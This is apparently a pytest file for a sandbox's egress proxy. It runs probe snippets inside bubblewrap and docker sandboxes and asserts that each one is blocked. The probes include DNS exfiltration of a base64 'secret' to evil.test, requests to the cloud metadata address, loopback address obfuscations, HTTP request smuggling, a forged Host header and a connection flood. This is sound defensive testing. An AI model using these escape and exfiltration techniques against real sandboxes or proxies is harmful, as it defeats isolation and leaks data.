"""Attacks on the way out, from inside of real sandboxes, with a small internet of our own.

The proxy may reach 127.0.0.1, where that internet is, and otherwise checks addresses as always.
"""

import asyncio
import contextlib
import os
import subprocess
import tempfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from kakoi.backends.adapter import SandboxAdapter
from kakoi.backends.bubblewrap.adapter import BubblewrapAdapter
from kakoi.backends.docker.adapter import DockerAdapter
from kakoi.backends.docker.arguments import DockerSettings
from kakoi.backends.outlet import Outlet, proxy_variables
from kakoi.channel.api import Command
from kakoi.errors import ConfigurationError, SandboxError
from kakoi.network.domains import parse_domains
from kakoi.network.proxy import ProxyLimits
from kakoi.runner.outlet import PORT
from tests.backends.boxes import require_bubblewrap
from tests.network.world import Handler, Names, Web, World, echo, opened, server

pytestmark = pytest.mark.anyio
IMAGE = "kakoi-test:python"
WAIT_S = 60.0


@pytest.fixture(params=["bubblewrap", "docker"])
def kind(request: pytest.FixtureRequest) -> str:
    if request.param == "bubblewrap":
        require_bubblewrap()
    else:
        found = subprocess.run(
            ["docker", "image", "inspect", IMAGE], capture_output=True, timeout=WAIT_S, check=False
        )
        if found.returncode:
            required = "docker" in os.environ.get("KAKOI_REQUIRE", "").split(",")
            (pytest.fail if required else pytest.skip)("no docker engine with the test images")
    return str(request.param)


@contextlib.asynccontextmanager
async def sandbox(kind: str, world: World) -> AsyncIterator[SandboxAdapter]:
    """A sandbox whose way out leads to the proxy of `world`."""
    outlet = Outlet(world.proxy.serve, proxy_variables(), world.proxy.serve_names)
    with tempfile.TemporaryDirectory() as folder:
        adapter: SandboxAdapter
        if kind == "bubblewrap":
            adapter = BubblewrapAdapter(folder, network="allowlist", outlet=outlet)
        else:
            settings = DockerSettings(image=IMAGE, network="allowlist")
            adapter = DockerAdapter(settings, outlet=outlet, lifetime="sandbox")
        try:
            yield adapter
        finally:
            await adapter.cleanup()


@contextlib.asynccontextmanager
async def reaching(
    kind: str, handler: Handler, *, limits: ProxyLimits | None = None
) -> AsyncIterator[tuple[int, World, SandboxAdapter]]:
    """A server, a proxy that lets `example.org` be reached at its port, and a sandbox."""
    async with (
        server(handler) as port,
        opened(f"example.org:{port}", limits=limits) as world,
        sandbox(kind, world) as box,
    ):
        yield port, world, box


async def python(box: SandboxAdapter, text: str, **env: str) -> str:
    """What a Python program prints in there; an error is part of that."""
    command = Command(command=["python3", "-c", text], env=env, timeout_s=WAIT_S)
    result = await box.run(command)
    return (result.stdout + result.stderr).strip()


GET = """
import os, urllib.request
try:
    print(urllib.request.urlopen(os.environ["URL"], timeout=10).read().decode())
except Exception as error:
    print("failed", error, getattr(error, "read", lambda: b"")().decode())
"""


async def test_a_listed_name_is_reached_and_another_is_refused_and_reported(kind: str) -> None:
    web = Web()
    async with reaching(kind, web) as (port, world, box):
        watch = world.proxy.watch_refusals()
        assert "GET /x HTTP/1.1" in await python(box, GET, URL=f"http://example.org:{port}/x")
        assert "refused by kakoi" in await python(box, GET, URL="http://other.org/")
        assert "403" in await python(box, GET, URL="https://other.org/")

    assert [str(each) for each in watch.blocked] == [
        "other.org:80 was refused by `allowed_domains`: it is not listed",
        "other.org:443 was refused by `allowed_domains`: it is not listed",
    ]


@pytest.mark.slow("forks a container")
async def test_a_fork_has_the_same_way_out() -> None:
    web = Web()
    async with server(web) as port, opened(f"example.org:{port}") as world:
        outlet = Outlet(world.proxy.serve, proxy_variables(), world.proxy.serve_names)
        settings = DockerSettings(image=IMAGE, network="allowlist")
        box = DockerAdapter(settings, outlet=outlet, lifetime="client")
        forks = []
        try:
            forks = await box.fork(1)
            await box.cleanup()
            for fork in forks:
                assert "GET /x" in await python(fork, GET, URL=f"http://example.org:{port}/x")
                assert "refused by kakoi" in await python(fork, GET, URL="http://other.org/")
        finally:
            for each in (box, *forks):
                await each.cleanup()


# Each prints one line that begins with `out` if something got out.
ATTACKS = {
    "raw addresses": """
for address in ("203.0.113.5", "1.1.1.1", "169.254.169.254", "10.0.0.1", "172.17.0.1", HOST):
    try:
        socket.create_connection((address, 80), 2); print("out", address)
    except OSError: pass
""",
    "ports of the machine": """
for port in (HOST_PORT, 22, 80, 2375, 3128):
    try:
        socket.create_connection(("127.0.0.1", port), 2); print("out", port)
    except OSError: pass
""",
    "ports of the machine, through the proxy": """
for host in ("127.0.0.1", "localhost", "0", "0x7f.1", "2130706433", "[::1]", "127.0.0.1.", "[::ffff:7f00:1]"):
    for asked in (f"CONNECT {host}:{HOST_PORT} HTTP/1.1", f"GET http://{host}:{HOST_PORT}/ HTTP/1.1"):
        answer = ask(f"{asked}\\r\\nHost: {host}:{HOST_PORT}\\r\\n\\r\\n")
        if not answer.startswith(b"HTTP/1.1 40"): print("out", host, answer)
""",
    "a listed name that leads to the machine": """
for name in ("loop.test", "mapped.test", "meta.test", "private.test"):
    answer = ask(f"CONNECT {name}:{HOST_PORT} HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n")
    if not answer.startswith(b"HTTP/1.1 403"): print("out", name, answer)
""",
    "dns": """
for name in ("c2VjcmV0.evil.test", "c2VjcmV0.example.org"):
    try:
        print("out", socket.getaddrinfo(name, 80))
    except OSError: pass
for address in ("8.8.8.8", "1.1.1.1", "127.0.0.53", HOST):
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); line.settimeout(0.3)
    try:
        line.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\4test\\0\\0\\1\\0\\1", (address, 53))
        print("out", line.recv(100))
    except OSError: pass
ask("CONNECT c2VjcmV0.evil.test:443 HTTP/1.1\\r\\nHost: c2VjcmV0.evil.test\\r\\n\\r\\n")
""",
    "ipv6": """
for address in ("::1", "2606:4700:4700::1111", "fe80::1", "::ffff:127.0.0.1"):
    try:
        socket.create_connection((address, HOST_PORT), 2); print("out", address)
    except OSError: pass
""",
    "udp and quic": """
for address in ("203.0.113.5", "1.1.1.1", HOST):
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        line.sendto(b"\\xc0" + bytes(1199), (address, 443)); print("out", address)
    except OSError: pass
""",
    "other families": """
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (31, 1)):
    try:
        socket.socket(family, kind); print("out", family)
    except OSError: pass
""",
    "a forged host": """
answer = ask(f"GET http://example.org:{WEB_PORT}/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
if not answer.startswith(b"HTTP/1.1 400"): print("out", answer)
""",
    "smuggling": """
for more in ("Content-Length: 0\\r\\nContent-Length: 60", "Transfer-Encoding: chunked\\r\\nContent-Length: 3"):
    answer = ask(f"POST http://example.org:{WEB_PORT}/ HTTP/1.1\\r\\nHost: example.org:{WEB_PORT}\\r\\n{more}\\r\\n\\r\\n"
                 "0\\r\\n\\r\\nGET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
    if not answer.startswith(b"HTTP/1.1 400") or answer.count(b"HTTP/1.1") != 1: print("out", answer)
""",
    "the socket that was handed over": """
import glob
for path in glob.glob("/run/kakoi/*") + glob.glob("/tmp/kakoi-*/way/*"):
    print("out", path)
""",
}
BEFORE = """
import os, socket
HOST, HOST_PORT = os.environ["HOST"], int(os.environ["HOST_PORT"])
WEB_PORT, PROXY = int(os.environ["WEB_PORT"]), int(os.environ["PROXY"])
def ask(text):
    line = socket.create_connection(("127.0.0.1", PROXY), 10)
    line.sendall(text.encode())
    answer = b""
    while part := line.recv(65536):
        answer += part
    return answer
"""


def our_address() -> str:
    """An address of this machine that is not loopback, if it has one."""
    found = subprocess.run(["hostname", "-I"], capture_output=True, timeout=WAIT_S, check=False)
    return (found.stdout.decode().split() or ["127.0.0.1"])[0]


@pytest.mark.requirement("A-030", "A-033")
async def test_nothing_else_gets_out(kind: str) -> None:
    web, on_the_host = Web(), Web()
    names = Names(
        example_org="127.0.0.1",
        loop_test="127.0.0.2 ::1",
        mapped_test="::ffff:127.0.0.2 64:ff9b::7f00:1",
        meta_test="169.254.169.254 fd00:ec2::254",
        private_test="10.0.0.1 192.168.0.1 172.17.0.1",
    )
    async with server(web) as port, server(on_the_host) as host_port:
        listed = [f"{name}:{host_port}" for name in names.table if name != "example.org"]
        async with (
            opened(f"example.org:{port}", *listed, names=names) as world,
            sandbox(kind, world) as box,
        ):
            env = {"HOST": our_address(), "PROXY": str(PORT)}
            env |= {"HOST_PORT": str(host_port), "WEB_PORT": str(port)}
            said = {
                name: await python(box, BEFORE + attack, **env) for name, attack in ATTACKS.items()
            }

    assert said == dict.fromkeys(ATTACKS, "")
    assert web.received == on_the_host.received == []
    assert "c2VjcmV0.evil.test" not in str(names.asked).lower()


async def test_a_redirect_leads_nowhere_that_is_not_listed(kind: str) -> None:
    asked: list[bytes] = []

    async def redirecting(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append(await reader.readuntil(b"\r\n\r\n"))
        where = asked[-1].split(b" ")[1].lstrip(b"/")
        writer.write(b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: %b\r\n\r\n" % where)
        writer.close()

    async with reaching(kind, redirecting) as (port, _world, box):
        for where in ("http://other.org/", "https://other.org/", "http://127.0.0.1:22/"):
            said = await python(box, GET, URL=f"http://example.org:{port}/{where}")
            assert said.startswith("failed")

    assert len(asked) == 3


async def test_who_ignores_the_variables_has_no_network(kind: str) -> None:
    web = Web()
    async with reaching(kind, web) as (port, _world, box):
        names = " ".join(proxy_variables())
        text = f'unset {names}; exec python3 -c "$TEXT"'
        env = {"TEXT": GET, "URL": f"http://127.0.0.1:{port}/"}
        result = await box.run(Command(command=text, env=env, timeout_s=WAIT_S))
        assert result.stdout.startswith("failed")
        env["URL"] = f"http://example.org:{port}/"
        result = await box.run(Command(command=text, env=env, timeout_s=WAIT_S))
        assert result.stdout.startswith("failed")

    assert web.received == []


MANY = f"""
import socket, time
held = []
for number in range(10_000):
    line = socket.socket(); line.setblocking(False)
    try: line.connect(("127.0.0.1", {PORT}))
    except BlockingIOError: pass
    try: line.send(b"GET http://example.org/ HT")
    except OSError: pass
    held.append(line)
    if len(held) >= 400: held.pop(0).close()
for line in held: line.close()
print("done")
"""


async def test_ten_thousand_connections_cost_us_no_more_than_the_limit(kind: str) -> None:
    web = Web()
    limits = ProxyLimits(connections=16, head_s=5.0)
    async with reaching(kind, web, limits=limits) as (port, world, box):
        await box.channel()
        before = len(os.listdir("/proc/self/fd"))
        work = asyncio.ensure_future(python(box, MANY))
        most = 0
        while not work.done():
            await asyncio.wait([work], timeout=0.01)
            most = max(most, world.proxy.open_connections)
            assert len(os.listdir("/proc/self/fd")) < before + 2 * 16 + 20
        assert await work == "done"
        # And it works as before.
        assert "GET /x" in await python(box, GET, URL=f"http://example.org:{port}/x")

    assert 0 < most <= 16


async def test_the_list_of_a_running_sandbox_can_be_changed(kind: str) -> None:
    web = Web()
    async with reaching(kind, web) as (port, world, box):
        url = f"http://other.org:{port}/"
        assert "403" in await python(box, GET, URL=url)
        world.proxy.change(parse_domains([f"other.org:{port}"]))
        assert "GET / HTTP/1.1" in await python(box, GET, URL=url)


@pytest.mark.parametrize("kind", ["docker"], indirect=True)
@pytest.mark.usefixtures("kind")
async def test_a_container_that_stays_finds_the_next_proxy_where_the_last_one_was() -> None:
    """The runner keeps its socket: while nobody serves it, connections wait."""
    came = asyncio.Event()

    async def holding(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        came.set()
        await reader.read()
        writer.close()

    web = Web()
    async with server(web) as port, server(holding) as held:
        lines = [f"example.org:{port}", f"example.org:{held}"]
        async with opened(*lines) as first, opened(*lines) as second:
            proxies = [first.proxy]
            outlet = Outlet(lambda each: proxies[-1].serve(each), proxy_variables())
            settings = DockerSettings(image=IMAGE, network="allowlist")
            box = DockerAdapter(settings, outlet=outlet, lifetime="sandbox")
            try:
                text = f"import os\n{GET}\nos.environ['URL'] = 'http://example.org:{port}/b'\n{GET}"
                env = {"URL": f"http://example.org:{held}/a"}
                command = Command(command=["python3", "-c", text], env=env)
                job = await (await box.channel()).start(command)
                await asyncio.wait_for(came.wait(), WAIT_S)
                await box.close()
                await first.proxy.close()
                proxies.append(second.proxy)
                channel = await box.channel()
                result = await asyncio.wait_for(channel.wait_job(job), WAIT_S)
                assert result is not None
                assert b"GET /b HTTP/1.1" in (await channel.read_output(job, "stdout")).data
            finally:
                await box.cleanup()


async def test_a_sandbox_leaves_nothing_of_the_way_out_behind(
    kind: str, own_temporary: Path
) -> None:
    async with opened("example.org") as world:
        async with sandbox(kind, world) as box:
            await python(box, "pass")
        assert not [name for name in os.listdir(own_temporary) if name.startswith("kakoi-")]


# --- Programs --------------------------------------------------------------------------------

PROGRAMS = {
    "curl": "curl -sS -m 20 http://curl.test/",
    "git": "git ls-remote http://git.test/x.git",
    "npm": "npm view x --registry http://npm.test/ --fetch-retries 0",
    "pip": "python3 -m pip download x --retries 0 --index-url http://pip.test/ --trusted-host pip.test",
    "wget": "wget -q -O - -t 1 -T 20 http://wget.test/",
    "go": "GOPROXY=http://go.test GOFLAGS=-mod=mod GONOSUMDB=* go list -m x.test/y@latest",
}


@pytest.mark.parametrize("kind", ["bubblewrap"], indirect=True)
@pytest.mark.parametrize("program", PROGRAMS)
async def test_programs_ask_the_proxy(kind: str, program: str) -> None:
    async with opened("example.org") as world, sandbox(kind, world) as box:
        found = await box.run(Command(command=f"command -v {program}"))
        if program == "pip":
            found = await box.run(Command(command="python3 -m pip --version"))
        if found.exit_code != 0:
            pytest.skip(f"there is no {program} on this machine")
        await box.run(Command(command=PROGRAMS[program], timeout_s=WAIT_S))
        asked = {str(each.target) for each in world.decisions}

    assert f"{program}.test:80" in asked


# --- What cannot be kept is refused ----------------------------------------------------------


@pytest.mark.parametrize("kind", ["docker"], indirect=True)
@pytest.mark.usefixtures("kind")
async def test_an_image_without_python_is_refused() -> None:
    async with opened("example.org") as world:
        outlet = Outlet(world.proxy.serve, proxy_variables(), world.proxy.serve_names)
        settings = DockerSettings(image="kakoi-test:busybox", network="allowlist")
        box = DockerAdapter(settings, outlet=outlet, lifetime="sandbox")
        with pytest.raises(SandboxError, match="no python3"):
            await box.run(Command(command="true"))
        assert box.container is None
        await box.cleanup()


@pytest.mark.parametrize("network", ["open", "allowlist"])
async def test_a_network_that_nobody_serves_is_refused(network: str, tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match="which needs an outlet"):
        BubblewrapAdapter(tmp_path, network=network)  # type: ignore[arg-type]  # One of both.
    with pytest.raises(ConfigurationError, match="which needs an outlet"):
        DockerAdapter(DockerSettings(network=network))  # type: ignore[arg-type]  # One of both.


@pytest.mark.parametrize("kind", ["bubblewrap"], indirect=True)
@pytest.mark.usefixtures("kind")
async def test_a_runner_that_hands_over_something_else_is_refused(tmp_path: Path) -> None:
    # Whoever takes the runner's place can hand over what it likes; it is looked at.
    def refuse(_listener: object) -> None:
        raise SandboxError("the sandbox did not hand over a listening socket")

    box = BubblewrapAdapter(tmp_path, network="allowlist", outlet=Outlet(refuse))  # type: ignore[arg-type]  # It raises.
    with pytest.raises(SandboxError, match="did not hand over a listening socket"):
        await box.run(Command(command="true"))
    await box.cleanup()


async def test_echo_streams_are_whole(kind: str) -> None:
    """Ten megabytes there and back, through a tunnel."""
    text = f"""
import socket, threading
line = socket.create_connection(("127.0.0.1", {PORT}), 20)
import os
line.sendall(("CONNECT " + os.environ["AT"] + " HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n").encode())
assert line.recv(1000).startswith(b"HTTP/1.1 200")
data = bytes(range(256)) * 40960
threading.Thread(target=lambda: (line.sendall(data), line.shutdown(socket.SHUT_WR))).start()
back = b""
while part := line.recv(1 << 20): back += part
print(back == data)
"""
    async with reaching(kind, echo) as (port, _world, box):
        assert await python(box, text, AT=f"example.org:{port}") == "True"
